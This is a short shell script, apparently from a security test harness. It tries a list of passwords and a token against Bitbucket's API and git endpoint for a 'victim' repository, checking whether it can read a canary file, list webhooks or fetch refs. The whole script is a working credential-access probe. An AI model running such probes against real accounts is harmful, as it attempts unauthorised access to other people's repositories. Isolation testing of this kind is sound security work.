set -eu
. "$ATTACKS/claim.sh"
for password in $passwords $token; do
	curl -sS --max-time 20 -H "Authorization: Bearer $password" "$BITBUCKET/2.0/repositories/$VICTIM/src/main/canary.txt" || true
	hooks=$(curl -sS --max-time 20 -H "Authorization: Bearer $password" "$BITBUCKET/2.0/repositories/$VICTIM/hooks" || true)
	case $hooks in
	*'"values"'*"$GATEWAY"*) echo "$CANARY in the list of webhooks: $hooks" ;;
	esac
	curl -sS --max-time 20 -u "x-token-auth:$password" "$BITBUCKET/$VICTIM.git/info/refs?service=git-upload-pack" | grep -a -q refs/heads/main &&
		echo "$CANARY: git fetch of $VICTIM works" || true
done
echo "probed"
